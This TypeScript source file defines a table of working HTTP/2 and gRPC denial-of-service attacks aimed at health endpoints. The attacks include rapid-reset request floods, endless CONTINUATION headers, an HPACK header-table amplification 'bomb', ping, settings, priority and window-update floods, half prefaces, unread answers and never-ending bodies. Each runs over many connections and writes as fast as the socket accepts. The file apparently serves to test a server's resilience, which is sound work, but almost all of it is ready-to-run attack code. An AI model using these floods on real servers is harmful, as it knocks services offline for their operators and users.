import type { Socket } from 'node:net';
import { endless, send, type Attack, type Bite } from './bites.js';
import { CALL, concat, frame, GET, HELLO, header, headers, PREFACE, request, SETTINGS } from './http2-frames.js';

const READINESS = GET('/readyz');
const LIVENESS = GET('/livez');
const WATCH = CALL('/grpc.health.v1.Health/Watch');
const CHECK = CALL('/grpc.health.v1.Health/Check');
/** `HealthCheckRequest` without a name, as gRPC sends it. */
const EMPTY_MESSAGE = Buffer.alloc(5);

const ENDLESS_BODY = frame('DATA', 0, 1, Buffer.alloc(16_000));

/** Odd numbers, as those of a client are. */
const streams = (count: number, from = 0): number[] => Array.from({ length: count }, (_, at) => 2 * (from + at) + 1);

const reset = (stream: number): Buffer => frame('RST_STREAM', 0, stream, Buffer.from([0, 0, 0, 8]));
const windowOf = (stream: number): Buffer => frame('WINDOW_UPDATE', 0, stream, Buffer.from([0, 0, 0, 1]));
const call = (stream: number, head: Buffer): Buffer =>
  concat(headers(stream, head, { isLast: false }), frame('DATA', 1, stream, EMPTY_MESSAGE));

/** Attacks over HTTP/2, on connections that speak it from the first byte on. */
export const HTTP2_ATTACKS = {
  'half of a preface of HTTP/2': { connections: 2000, bite: send(PREFACE.subarray(0, 12)) },
  'silent connections of HTTP/2': { connections: 2000, bite: send(HELLO) },
  'requests over HTTP/2 without a pause': { connections: 50, bite: ever((at) => request(at, READINESS)) },
  'requests over HTTP/2 that are taken back at once': {
    connections: 50,
    bite: ever((at) => concat(request(at, READINESS), reset(2 * at + 1))),
  },
  'liveness over HTTP/2 that is taken back at once': {
    connections: 50,
    bite: ever((at) => concat(request(at, LIVENESS), reset(2 * at + 1))),
  },
  'requests over HTTP/2 that are taken back at once, after a greeting': {
    connections: 50,
    bite: (socket) => {
      socket.write(HELLO);
      socket.once('data', () => flood(socket, (at) => concat(request(at, READINESS), reset(2 * at + 1))));
    },
  },
  'requests over HTTP/2 that never end': {
    connections: 100,
    bite: send(concat(HELLO, ...streams(100).map((stream) => headers(stream, CHECK, { isLast: false })))),
  },
  'watches of gRPC': {
    connections: 100,
    bite: send(concat(HELLO, ...streams(100).map((stream) => call(stream, WATCH)))),
  },
  'calls of gRPC without a pause': { connections: 50, bite: ever((at) => call(2 * at + 1, CHECK)) },
  'answers over HTTP/2 that are not read': {
    connections: 200,
    // The client allows no byte of any answer.
    bite: send(concat(PREFACE, SETTINGS([4, 0]), ...streams(100).map((stream) => headers(stream, READINESS)))),
  },
  'pings of HTTP/2': { connections: 50, bite: endless(repeated(frame('PING', 0, 0, Buffer.alloc(8))), HELLO) },
  'settings of HTTP/2': { connections: 50, bite: endless(repeated(SETTINGS([4, 65_535])), HELLO) },
  'many settings of HTTP/2': {
    connections: 50,
    bite: endless(SETTINGS(...Array.from({ length: 2000 }, (_, at): [number, number] => [100 + at, at])), HELLO),
  },
  'priorities of HTTP/2': {
    connections: 50,
    bite: endless(repeated(frame('PRIORITY', 0, 1, Buffer.from([0, 0, 0, 0, 1]))), HELLO),
  },
  'windows of HTTP/2': { connections: 50, bite: endless(repeated(windowOf(0)), HELLO) },
  'empty frames of HTTP/2': {
    connections: 50,
    bite: endless(repeated(frame('DATA', 0, 1, Buffer.alloc(0))), concat(HELLO, headers(1, CHECK, { isLast: false }))),
  },
  'requests over HTTP/2 between farewells': {
    connections: 50,
    bite: ever((at) => concat(request(at, READINESS), frame('GOAWAY', 0, 0, Buffer.alloc(8)))),
  },
  'bytes of HTTP/2 after a farewell': {
    connections: 50,
    bite: endless(
      repeated(frame('DATA', 0, 1, Buffer.alloc(0))),
      concat(HELLO, frame('GOAWAY', 0, 0, Buffer.alloc(8))),
    ),
  },
  'bodies over HTTP/2 that have no end': {
    connections: 50,
    bite: endless(ENDLESS_BODY, concat(HELLO, headers(1, GET('/readyz'), { isLast: false }))),
  },
  'bodies over HTTP/2 that have no end, after a pause': {
    connections: 50,
    bite: (socket, turn) => {
      socket.write(concat(HELLO, headers(1, GET('/readyz'), { isLast: false })));
      // So long that the connection is looked at as one that sends nothing.
      setTimeout(() => endless(ENDLESS_BODY, '')(socket, turn), 100);
    },
  },
  'headers over HTTP/2 that have no end': {
    connections: 50,
    bite: endless(
      repeated(frame('CONTINUATION', 0, 1, header('a', 'b'.repeat(100)))),
      concat(HELLO, frame('HEADERS', 1, 1, READINESS)),
    ),
  },
  'headers over HTTP/2 that grow when they are read': {
    connections: 100,
    // A long header is put into the table once (0x40), and then named thousands of times with a byte each (0xbe).
    bite: ever((at) => {
      const [one, more] = [2 * (2 * at) + 1, 2 * (2 * at + 1) + 1];
      const bomb = concat(READINESS, header('a', 'x'.repeat(4000), 0x40));
      return concat(headers(one, bomb), headers(more, concat(READINESS, Buffer.alloc(8000, 0xbe))));
    }),
  },
} as const satisfies Record<string, Attack>;

function ever(make: (at: number) => Buffer): Bite {
  return (socket: Socket) => {
    socket.write(HELLO);
    flood(socket, make);
  };
}

/** Sends the requests that `make` makes, from the first on, as fast as the other side takes them. */
function flood(socket: Socket, make: (at: number) => Buffer): void {
  let at = 0;
  const fill = (): void => {
    while (!socket.destroyed && socket.write(concat(...Array.from({ length: 100 }, () => make(at++)))));
  };
  socket.on('drain', fill);
  fill();
}

function repeated(bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: 1000 }, () => bytes));
}
